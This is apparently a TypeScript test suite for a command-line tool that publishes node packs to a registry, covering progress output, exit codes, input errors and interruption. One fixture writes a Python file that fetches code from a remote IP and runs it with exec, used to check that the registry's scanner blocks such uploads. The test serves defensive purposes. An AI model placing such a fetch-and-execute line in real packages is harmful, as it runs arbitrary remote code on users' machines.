import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises'
import { createServer, type RequestListener } from 'node:http'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { after, before, describe, it } from 'node:test'
import { freePort } from '../server/test/free-port.ts'
import { type TestPublisher, testPublisher } from '../server/test/publishing.ts'
import { untilTrue } from '../server/test/until-true.ts'
import { useWorld } from '../server/test/world.ts'
import { progressOn } from './publish-output.ts'

const registry = useWorld()
const work = await mkdtemp(join(tmpdir(), 'publish-pack-test-'))
after(() => rm(work, { recursive: true, force: true }))
let acme: TestPublisher
let api: string

describe('publish-pack', () => {
  before(prepare)

  it('follows a version until it is live, one line for each step', async () => {
    const run = publishPack(await folderWith(packOf('calm')), '--token', acme.token)
    await run.untilSaid('Uploaded')
    await registry.world.runJobs()
    const { code, stdout, stderr } = await run.ended
    assert.deepEqual([code, stderr], [0, ''])
    const { siteUrl } = registry.world.deps.config
    assert.deepEqual(
      stdout
        .split('\n')
        .filter((line) => /^(Packed|Announced|Uploaded|Received|Checked|Read|Scanned|Listed)/.test(line))
        .map((line) => line.split(' ')[0]),
      ['Packed', 'Announced', 'Uploaded', 'Received', 'Checked', 'Read', 'Scanned', 'Listed.'],
    )
    assert.ok(stdout.includes(`Progress: ${siteUrl}/nodes/calm/manage/versions/1.0.0\n`))
    assert.ok(stdout.includes('\ncalm 1.0.0 is live.\n'))
  })

  it('exits with 2 when a moderator must decide, and names file, line, severity and remedy', async () => {
    const files = {
      ...packOf('wild'),
      'fetch.py': 'import requests\nexec(requests.get("http://203.0.113.9").text)\n',
    }
    const run = publishPack(await folderWith(files), '--token', acme.token, '--json')
    await run.untilSaid('Uploaded')
    await registry.world.runJobs()
    const { code, stdout, stderr } = await run.ended
    assert.equal(code, 2)
    assert.match(stderr, /^critical \(blocks\) fetch\.py:2 \S+\n {2}.+\n {2}Fix: .+$/m)
    assert.match(stderr, /^wild 1\.0\.0 is not public yet: a moderator has to review/m)
    const { verdict, findings, page } = JSON.parse(stdout)
    assert.deepEqual([verdict, findings[0].file, findings[0].line], ['waiting', 'fetch.py', 2])
    assert.ok(page.endsWith('/nodes/wild/manage/versions/1.0.0'))
  })

  it('exits with 1 when the archive is refused', async () => {
    const files = { ...packOf('refused'), 'a.txt': 'one', 'A.txt': 'two' }
    const { code, stderr } = await publishPack(await folderWith(files), '--token', acme.token).ended
    assert.equal(code, 1)
    assert.match(stderr, /^The registry refused the archive \(400\): .*a\.txt.*\n$/i)
  })

  it('can be stopped while it watches, and explains that the registry continues', async () => {
    const run = publishPack(await folderWith(packOf('left')), '--token', acme.token)
    await run.untilSaid('Progress: ')
    run.child.kill('SIGINT')
    const { code, stderr } = await run.ended
    assert.equal(code, 130)
    assert.match(stderr, /^Stopped watching\. The registry goes on checking the version: http\S+\n$/)
    await registry.world.runJobs()
  })

  it('can be stopped before anything is published', async () => {
    const asked = Promise.withResolvers<void>()
    const address = await serverThat(() => asked.resolve())
    const run = publishPack(await folderWith(packOf('early')), '--token', 'nyp_x', '--api', address)
    await asked.promise
    run.child.kill('SIGINT')
    const { code, stderr } = await run.ended
    assert.deepEqual(
      [code, stderr],
      [130, 'Stopped. Nothing was published; run the same command to start again.\n'],
    )
  })
})

describe('publish-pack with an unpublishable input', () => {
  before(prepare)

  const cases: { name: string; args: () => Promise<string[]>; said: RegExp }[] = [
    {
      name: 'a folder that does not exist',
      args: async () => [join(work, 'nowhere')],
      said: /nowhere: no such file or folder/,
    },
    {
      name: 'a file in place of a folder',
      args: async () => [join(await folderWith(packOf('a')), 'pyproject.toml')],
      said: /pyproject\.toml is not a folder\./,
    },
    {
      name: 'an empty folder',
      args: async () => [await folderWith({})],
      said: /pyproject\.toml does not exist/,
    },
    {
      name: 'an empty folder, with every option',
      args: async () => [await folderWith({}), '--id', 'a', '--publisher', 'acme', '--version', '1.0.0'],
      said: /contains no files to publish/,
    },
    {
      name: 'TOML with a mistake',
      args: async () => [await folderWith({ 'pyproject.toml': '[project]\nname = "a\n' })],
      said: /pyproject\.toml, line 2, column \d+: .+/,
    },
    {
      name: 'a project file in UTF-16',
      args: async () => [await folderWith({ 'pyproject.toml': Buffer.from('\ufeff[project]', 'utf16le') })],
      said: /pyproject\.toml is not UTF-8 text/,
    },
    {
      name: 'a version that is a number',
      args: async () => [await folderWith({ 'pyproject.toml': '[project]\nname = "a"\nversion = 1.0\n' })],
      said: /pyproject\.toml: version must be text in quotes/,
    },
    {
      name: 'a project file without a publisher',
      args: async () => [
        await folderWith({ 'pyproject.toml': '[project]\nname = "a"\nversion = "1.0.0"\n' }),
      ],
      said: /pyproject\.toml: PublisherId in \[tool\.comfy\] is missing/,
    },
    {
      name: 'a version that differs from the project file',
      args: async () => [await folderWith(packOf('two')), '--version', '2.0.0'],
      said: /says version = "1\.0\.0", but --version says 2\.0\.0\..+\n.+Nothing was sent\./,
    },
    {
      name: 'an id that differs from the project file',
      args: async () => [await folderWith(packOf('two')), '--id', 'three'],
      said: /says name = "two", but --id says three\./,
    },
    {
      name: 'a link that leads in a circle',
      args: async () => {
        const folder = await folderWith(packOf('loop'))
        await symlink('loop', join(folder, 'loop'))
        return [folder]
      },
      said: /loop: a circular link/,
    },
    {
      name: 'a folder in place of the project file',
      args: async () => [await folderWith({ 'pyproject.toml/a': '' })],
      said: /pyproject\.toml: a folder where a file is required/,
    },
    {
      name: 'an empty token',
      args: async () => [await folderWith(packOf('a')), '--token', ' '],
      said: /The token after --token is empty/,
    },
    {
      name: 'a token that is unknown',
      args: async () => [
        await folderWith(packOf('a')),
        '--token',
        'nyp_00000000-0000-4000-8000-000000000000',
      ],
      said: /refused the new version \(401\): Invalid personal access token/,
    },
    {
      name: 'an address that is none',
      args: async () => [await folderWith(packOf('a')), '--api', 'registry'],
      said: /--api registry: this is no address/,
    },
    {
      name: 'an address where nothing runs',
      args: async () => [await folderWith(packOf('a')), '--api', `http://127.0.0.1:${await freePort()}`],
      said: /refuses connections/,
    },
    {
      name: 'an address of something else',
      args: async () => [
        await folderWith(packOf('a')),
        '--api',
        await serverThat((_, response) => response.end('<p>Hi')),
      ],
      said: /responded to the new version with status 200, unlike a registry/,
    },
    {
      name: 'an option that does not exist',
      args: async () => [await folderWith(packOf('a')), '--verison', '1'],
      said: /Unknown option '--verison'/,
    },
  ]
  for (const { name, args, said } of cases) {
    it(`explains ${name} in one or two lines`, async () => {
      const given = await args()
      const usual = given.includes('--token') ? [] : ['--token', acme.token]
      const { code, stderr } = await publishPack(...given, ...usual).ended
      assert.equal(code, 1)
      assert.match(stderr, said)
      assertShort(stderr)
    })
  }

  it('explains the token of another publisher', async () => {
    const other = await testPublisher(registry.world)
    const { code, stderr } = await publishPack(await folderWith(packOf('mine')), '--token', other.token).ended
    assert.equal(code, 1)
    assert.match(stderr, /\(403\): .+\n {2}Check --publisher/)
  })

  it('explains a number that is taken, with the next steps', async () => {
    await acme.publish({ id: 'taken' })
    const { code, stderr } = await publishPack(await folderWith(packOf('taken')), '--token', acme.token).ended
    assert.equal(code, 1)
    assert.match(stderr, /already exists[\s\S]*Raise the version in pyproject\.toml/)
  })

  it('explains a connection that breaks during the upload', async () => {
    const address: string = await serverThat((request, response) => {
      if (request.method === 'PUT') request.socket.destroy()
      else {
        const announced = { signedUrl: `${address}/put`, node_version: { id: 'f0', version: '1.0.0' } }
        response.writeHead(201).end(JSON.stringify(announced))
      }
    })
    const run = publishPack(await folderWith(packOf('broken')), '--token', 'nyp_x', '--api', address)
    const { code, stderr } = await run.ended
    assert.equal(code, 1)
    assert.match(
      stderr,
      /^The connection to http\S+ broke\. .+\nThe archive did not arrive, so nothing was published\.\n$/,
    )
  })
})

describe('the progress on a terminal', () => {
  it('replaces running steps in place and keeps finished ones', () => {
    const shown: string[] = []
    const progress = progressOn({ isTTY: true, columns: 40, write: (text) => shown.push(text) })
    progress.begin('Packing')
    progress.begin('Uploading')
    progress.end('Uploaded.')
    assert.equal(shown.join(''), 'Packing …\r\x1b[KUploading …\r\x1b[KUploaded.\n')
  })
})

async function prepare(): Promise<void> {
  acme ??= await testPublisher(registry.world)
  api = await registry.world.listen()
}

/** Asserts an error of a few lines without a stack trace. */
function assertShort(stderr: string): void {
  assert.doesNotMatch(stderr, /^\s+at /m)
  assert.ok(stderr.trim().split('\n').length <= 3, stderr)
}

function packOf(id: string): Record<string, string> {
  return {
    'pyproject.toml': `[project]\nname = "${id}"\nversion = "1.0.0"\ndescription = "Blurs."\nlicense = { text = "MIT" }\n[tool.comfy]\nPublisherId = "${acme.id}"\n`,
    'README.md': '# A pack\n',
    '__init__.py': 'NODE_CLASS_MAPPINGS = {}\n',
  }
}

async function folderWith(files: Record<string, string | Buffer>): Promise<string> {
  const folder = await mkdtemp(join(work, 'pack-'))
  for (const [path, content] of Object.entries(files)) {
    await mkdir(dirname(join(folder, path)), { recursive: true })
    await writeFile(join(folder, path), content)
  }
  return folder
}

async function serverThat(listener: RequestListener): Promise<string> {
  const server = createServer(listener).listen(0, '127.0.0.1')
  await once(server, 'listening')
  after(() => {
    server.closeAllConnections()
    server.close()
  })
  const bound = server.address()
  assert.ok(bound !== null && typeof bound === 'object')
  return `http://127.0.0.1:${bound.port}`
}

function publishPack(...args: string[]) {
  const atRegistry = args.includes('--api') ? [] : ['--api', api]
  const child = spawn(process.execPath, [join(import.meta.dirname, 'publish.ts'), ...args, ...atRegistry], {
    stdio: ['ignore', 'pipe', 'pipe'],
  })
  const said = { stdout: '', stderr: '' }
  for (const name of ['stdout', 'stderr'] as const) {
    child[name].setEncoding('utf8').on('data', (text: string) => {
      said[name] += text
    })
  }
  const ended = once(child, 'close').then(([code]) => ({ code, ...said }))
  return {
    child,
    ended,
    untilSaid: (text: string) => untilTrue(() => (said.stdout + said.stderr).includes(text)),
  }
}
